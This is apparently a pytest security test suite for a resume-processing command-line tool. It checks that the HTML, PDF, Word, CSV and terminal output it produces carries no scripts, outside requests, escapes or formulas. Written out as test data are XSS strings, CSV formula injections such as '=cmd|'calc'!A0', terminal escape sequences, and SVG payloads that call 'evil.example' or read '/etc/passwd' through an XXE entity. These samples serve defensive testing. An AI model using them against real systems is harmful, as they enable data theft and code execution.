"""Nothing that a resume or a posting says is carried out by what shows it: pages, printed pages, Word, terminals."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import re
import zipfile
from base64 import b64encode
from pathlib import Path

import pypdf
import pytest
import yaml
from selectolax.lexbor import LexborHTMLParser, LexborNode

from tests.cli.conftest import Run
from tests.security import files, hostile
from tests.security.conftest import COMMANDS, Made

OBEYED = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028-\u202e\u2066-\u2069\ud800-\udfff]")
"""Characters that a terminal obeys; a line break and a tab stay."""
ACTIVE = "script, img, iframe, object, embed, base, link, form, textarea, video, audio, foreignObject, animate, set"
REQUESTING = {"src", "srcset", "action", "formaction", "background", "xlink:href", "ping", "data", "poster"}
FOLLOWED = re.compile(r"#[\w-]+|mailto:[\w.@-]+|tel:[\d+-]+|https://[\w./-]+|[a-z]+\.(?:html|pdf|docx|txt|apkg|ics)")
PLAIN = tuple(name for name in COMMANDS if name not in ("theme", "demo", "completion"))


def pages(made: Made) -> list[Path]:
    found = made.files(".html")
    own = [path for path in found if not {"shipped", "theme", "demo"} & set(path.parts)]
    assert {path.name for path in own} >= {"report.html", "letter.html", "explain.html", "pack.html", "index.html"}
    return own


def attributes(node: LexborNode) -> dict[str, str]:
    return {name: value or "" for name, value in node.attributes.items()}


def test_no_page_has_anything_that_runs_or_asks_for_something(made: Made) -> None:
    for path in pages(made):
        page = LexborHTMLParser(path.read_text(encoding="utf-8"))
        active = [node for node in page.css(ACTIVE) if not is_ours(node, page)]
        assert active == [], path.name
        for node in page.css("*"):
            named = attributes(node)
            asks = {name for name in named if name in REQUESTING and not named[name].startswith("data:image/png")}
            assert not asks | {name for name in named if name.startswith("on")}, path.name
            assert not re.search(r"url\(|expression|@import", named.get("style", "")), path.name
        for style in page.css("style"):
            assert not re.search(r"@import|url\((?!data:)|evil", style.text()), path.name
        for link in page.css("[href]"):
            assert FOLLOWED.fullmatch(attributes(link)["href"]) or is_ours(link, page), path.name


def is_ours(node: LexborNode, page: LexborHTMLParser) -> bool:
    """Whether it is the empty icon, the picture of a page as data, or the one script that the page's policy names."""
    named = attributes(node)
    if node.tag in ("link", "img"):
        return named.get("href", named.get("src", "")).startswith("data:")
    policy = attributes(page.css("meta[http-equiv]")[0])["content"] if page.css("meta[http-equiv]") else ""
    digest = b64encode(hashlib.sha256(node.text().encode("utf-8")).digest()).decode("ascii")
    return node.tag == "script" and f"script-src 'sha256-{digest}'" in policy


def test_every_page_of_ours_forbids_the_browser_all_requests(made: Made) -> None:
    for path in pages(made):
        if path.name == "themed.html":
            continue  # a user's theme is the user's own page
        page = LexborHTMLParser(path.read_text(encoding="utf-8"))
        (meta,) = page.css("meta[http-equiv]")
        assert attributes(meta)["http-equiv"] == "Content-Security-Policy", path.name
        assert attributes(meta)["content"].startswith("default-src 'none'"), path.name


def test_the_words_themselves_are_shown(made: Made) -> None:
    for name in ("report.html", "letter.html", "explain.html", "themed.html"):
        page = LexborHTMLParser((made.folder / name).read_text(encoding="utf-8"))
        assert "<script>alert(1)</script>" in page.text(), name


def test_no_template_in_the_words_is_filled_in(made: Made) -> None:
    texts = [path.read_text(encoding="utf-8", errors="replace") for path in made.files(".html", ".md", ".txt", ".json")]
    texts += [text for told in made.told.values() for text in (told["out"], told["err"])]
    texts += [printed(path) for path in made.files(".pdf")]
    for text in texts:
        assert not [filled for filled in hostile.FILLED if filled in text]


def printed(path: Path) -> str:
    return "".join(page.extract_text() for page in pypdf.PdfReader(path).pages)


def test_a_pdf_holds_no_action_no_file_and_no_address_but_the_persons(made: Made) -> None:
    found = [path for path in made.files(".pdf") if "demo" not in path.parts]
    assert {path.name for path in found} == {
        *("report.pdf", "letter.pdf", "pack.pdf", "explain.pdf", "cohort.pdf", "scan.pdf", "review.pdf")
    }
    for path in found:
        reader = pypdf.PdfReader(path)
        whole = path.read_bytes()
        root = reader.trailer["/Root"]
        assert not {"/OpenAction", "/AA", "/JavaScript", "/AcroForm"} & set(root), path.name
        assert not reader.attachments, path.name
        assert b"/JavaScript" not in whole and b"/Launch" not in whole and b"root:x:0" not in whole, path.name
        for page in reader.pages:
            for mark in page.get("/Annots", ()):
                address = mark.get_object().get("/A", {}).get("/URI")
                assert address is None or FOLLOWED.fullmatch(address), path.name
        told = re.sub(r"\s+", "", printed(path))
        assert "<script>alert(1)</script>" in told or path.name in ("pack.pdf", "cohort.pdf", "review.pdf")


def test_a_word_file_points_nowhere_but_to_the_persons_addresses(made: Made) -> None:
    (path,) = made.files(".docx")
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name).decode("utf-8") for name in archive.namelist() if not name.endswith("/")}
    targets = [
        target
        for name, part in parts.items()
        if name.endswith(".rels")
        for target in re.findall(r'Target="([^"]*)"[^>]*TargetMode="External"', part)
    ]
    assert targets
    assert all(FOLLOWED.fullmatch(target) for target in targets)
    assert "instrText" not in parts["word/document.xml"]
    assert not [name for name in parts if re.search(r"vba|embeddings|activeX|attachedTemplate", name)]


@pytest.mark.parametrize("name", PLAIN)
def test_a_terminal_is_given_nothing_that_it_obeys(made: Made, name: str) -> None:
    told = made.told[name]
    assert not OBEYED.search(told["out"])
    assert not OBEYED.search(told["err"])


@pytest.mark.parametrize("form", files.forms())
@pytest.mark.parametrize("command", [("parse", "--format", "text"), ("parse", "--format", "yaml"), ("skills",)])
def test_escapes_do_not_get_through_any_reader(run: Run, form: str, command: tuple[str, ...]) -> None:
    Path(form).write_bytes(files.forms()[form])
    result = run(*command, form, color=True)
    assert result.exit_code == 0, result.output
    assert "Engineer" in result.stdout or form in ("r.json", "r.yaml")
    assert not OBEYED.search(result.output)


def test_escapes_in_yaml_and_json_are_read_back(run: Run) -> None:
    Path("r.json").write_bytes(files.forms()["r.json"])
    told = yaml.safe_load(run("parse", "r.json", "--format", "yaml").stdout)
    assert told["basics"]["name"] == json.loads(run("parse", "r.json").stdout)["basics"]["name"] == files.NAME


@pytest.mark.skipif(not Path("/proc").exists(), reason="other systems take no such names")
@pytest.mark.parametrize("name", ["a\x1b[31m\u202e.md", "b\udc9b31m.md"], ids=["escapes", "not UTF-8"])
@pytest.mark.parametrize(
    "command", [("score",), ("skills",), ("parse", "--verbose"), ("posting",), ("score", "--level", "\x1b[31m")]
)
def test_the_name_of_a_file_is_shown_and_not_obeyed(
    run: Run, resume_md: Path, name: str, command: tuple[str, ...]
) -> None:
    Path(name).write_bytes(resume_md.read_bytes())
    for told in (run(*command, name, color=True), run(*command, f"none-{name}", color=True)):
        assert told.exit_code in (0, 2, 3), told.output
        assert not OBEYED.search(told.stdout.replace(name, ""))
        assert not OBEYED.search(told.stderr)


def test_no_cell_of_the_batch_is_a_formula(run: Run) -> None:
    for name in ("=cmd|'calc'!A0.md", "+1.md", "@SUM(1).md", "-2+3.md"):
        Path(name).write_bytes(b"no resume at all")
    assert run("batch", ".", "-o", "rows.csv", "-j", "1").exit_code == 3
    rows = list(csv.reader(io.StringIO(Path("rows.csv").read_text(encoding="utf-8"))))
    assert len(rows) == 5
    assert not [cell for row in rows for cell in row if cell.lstrip().startswith(("=", "+", "@", "\t", "\r"))]
    assert not [cell for row in rows for cell in row if cell.startswith("-") and not re.fullmatch(r"-[\d.]+", cell)]


SKILL = """\
skills:
  - id: evil
    name: "=HYPERLINK(1)"
    area: agents
    kind: tool
    aliases: ["@evil", "+evil", "{alias}"]
    depth: {{used: Names it., delivered: States what it changed., led: Chose it for others.}}
    close: {{exercise: "-2+3", hours: 5}}
    sources: [postings-2026]
"""


def own_skills(alias: str) -> Path:
    Path("mine/skills").mkdir(parents=True)
    Path("mine/skills/agents.yaml").write_text(SKILL.format(alias=alias), encoding="utf-8")
    return Path("mine")


@pytest.mark.parametrize("command", [("list", "--area", "agents"), ("export",)])
def test_no_cell_of_somebody_elses_skills_is_a_formula(run: Run, command: tuple[str, ...]) -> None:
    result = run("taxonomy", *command, "--format", "csv", "--taxonomy", own_skills("evil thing"))
    (row,) = [row for row in csv.DictReader(io.StringIO(result.stdout)) if row["id"] == "evil"]
    assert (row["name"], row["close"]) == ("'=HYPERLINK(1)", "'-2+3")
    assert row["aliases"].startswith(("'@", "e"))


@pytest.mark.parametrize("alias", [r"\e[31mevil", r"evil\x9b", r"\u202Eevil"])
def test_somebody_elses_skills_hold_no_escapes(run: Run, alias: str) -> None:
    result = run("taxonomy", "check", own_skills(alias))
    assert result.exit_code == 4
    assert "agents.yaml:6: a control character" in result.stderr
    assert not OBEYED.search(result.stderr)


@pytest.mark.skipif(not Path("/proc").exists(), reason="other systems take no such names")
def test_names_of_files_in_a_printed_table_are_escaped(run: Run) -> None:
    for name in ("a\x1b[31m\u202e\u009b.md", "b\udc9b31m.md"):
        Path(name).write_bytes(b"no resume at all")
    told = run("batch", ".", "-o", "-", "-j", "1", color=True)
    assert told.exit_code == 3
    assert len([json.loads(line) for line in told.stdout.splitlines()]) == 2
    assert not OBEYED.search(told.output)


DRAWINGS = {
    "a script": '<script>fetch("http://evil.example/")</script><rect onload="alert(1)" width="9" height="9"/>',
    "a file": '<image href="file:///etc/passwd" width="9" height="9"/>',
    "an address": '<image xlink:href="http://evil.example/x.png" width="9" height="9"/>',
    "a style": "<style>@import url(http://evil.example/x.css);</style><rect width='9' height='9'/>",
    "another's part": '<use href="file:///etc/passwd#x"/>',
    "entities": "&out;",
}


@pytest.mark.parametrize("inside", DRAWINGS.values(), ids=DRAWINGS)
def test_a_drawing_in_a_theme_opens_nothing(run: Run, resume_md: Path, inside: str) -> None:
    Path("mine").mkdir()
    Path("mine/letter.html").write_text(
        '<!doctype html><html lang="en"><title>x</title><img src="seal.svg" alt="x">{{ letter.signature }}',
        encoding="utf-8",
    )
    Path("mine/seal.svg").write_text(
        '<!DOCTYPE svg [<!ENTITY out SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg" '
        f'xmlns:xlink="http://www.w3.org/1999/xlink" width="90" height="30"><text y="9">{inside}</text>{inside}</svg>',
        encoding="utf-8",
    )
    told = run("letter", resume_md, "--theme", "mine", "-o", "letter.pdf", "--as-of", "2026-11-22")
    assert told.exit_code in (0, 5), told.output
    if told.exit_code == 0:
        whole = Path("letter.pdf").read_bytes()
        assert b"/JavaScript" not in whole
        assert "root:" not in printed(Path("letter.pdf"))
